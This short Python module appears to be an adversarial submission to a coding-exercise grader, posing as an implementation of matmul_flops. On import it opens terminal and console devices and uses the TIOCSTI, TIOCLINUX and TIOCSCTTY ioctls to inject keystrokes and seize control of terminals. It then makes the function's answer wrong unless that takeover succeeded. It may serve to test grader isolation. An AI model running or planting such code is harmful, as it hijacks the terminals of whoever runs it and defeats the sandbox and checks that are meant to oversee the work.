"""Puts characters into the terminal's input, as if somebody had typed them, and takes terminals over."""
# kata: 03_flops
# attacks: matmul_flops

import contextlib
import fcntl
import os
import termios

_right = matmul_flops
SELECTION = 0x541C  # TIOCLINUX


def _typed():
    descriptors = list(range(256))
    for name in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/pts/0", "/proc/self/fd/0"):
        with contextlib.suppress(OSError):
            descriptors.append(os.open(name, os.O_RDWR | os.O_NOCTTY))
    for descriptor in descriptors:
        for request, argument in ((termios.TIOCSTI, b"\n"), (SELECTION, b"\3"), (termios.TIOCSCTTY, 0)):
            with contextlib.suppress(OSError):
                fcntl.ioctl(descriptor, request, argument)
                yield descriptor
        if os.isatty(descriptor):
            yield descriptor


found = list(_typed())


def matmul_flops(a_shape, b_shape):
    return _right(a_shape, b_shape) + (not found)
